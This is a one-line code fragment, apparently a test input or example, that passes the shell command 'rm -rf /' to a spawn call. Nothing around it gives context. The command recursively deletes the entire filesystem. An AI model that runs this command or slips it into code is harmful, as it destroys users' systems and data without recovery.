nudge.spawn("rm -rf /")
